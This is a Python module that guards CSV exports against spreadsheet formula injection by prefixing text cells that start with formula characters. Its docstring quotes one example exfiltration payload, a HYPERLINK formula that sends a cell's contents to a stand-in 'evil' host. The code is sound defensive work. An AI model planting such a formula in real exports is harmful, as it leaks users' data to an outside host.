"""CSV written for spreadsheets: formula cells neutralized (the OWASP CSV-injection rule).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
a leading tab or carriage return can hide one), so a user id such as
``=HYPERLINK("http://evil/?"&A1,"click")`` in an export would run on the analyst's
machine. Every CSV the package writes goes through :func:`csv_text` or
:func:`write_csv`, which prefix such text cells with a single quote; numbers (and text
that is just a number, such as ``-3.5``) are left as they are.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralize_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Non-text values and text that is a plain number (``-3.5``, ``+1e3``) are returned as
    they are.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralize_formulas(frame: Any) -> Any:
    """A copy of the pandas DataFrame ``frame`` with every text cell and column name
    passed through :func:`neutralize_cell` (numeric columns untouched)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype.kind not in "biufcmM":  # text, object or categorical
            out[name] = column.map(neutralize_cell, na_action="ignore")
    out.columns = [neutralize_cell(str(c)) for c in out.columns]
    return out


def _line_end(frame: Any) -> str:
    """``\n``, or RFC 4180's ``\r\n`` when a text cell holds a carriage return: pandas
    quotes a cell only for the characters of the line terminator, so a lone ``\r`` inside
    a cell would otherwise be written bare and split the row in a spreadsheet."""
    for name in frame.columns:
        column = frame[name]
        if (
            column.dtype.kind not in "biufcmM"
            and column.map(lambda v: isinstance(v, str) and "\r" in v, na_action="ignore").any()
        ):
            return "\r\n"
    return "\n"


def csv_text(frame: Any) -> str:
    """``frame`` as CSV text without the index, formula cells neutralized."""
    safe = neutralize_formulas(frame)
    return str(safe.to_csv(index=False, lineterminator=_line_end(safe)))


def write_csv(frame: Any, path: str | Path) -> None:
    """Write ``frame`` to ``path`` as CSV without the index, formula cells neutralized."""
    safe = neutralize_formulas(frame)
    safe.to_csv(path, index=False, lineterminator=_line_end(safe))
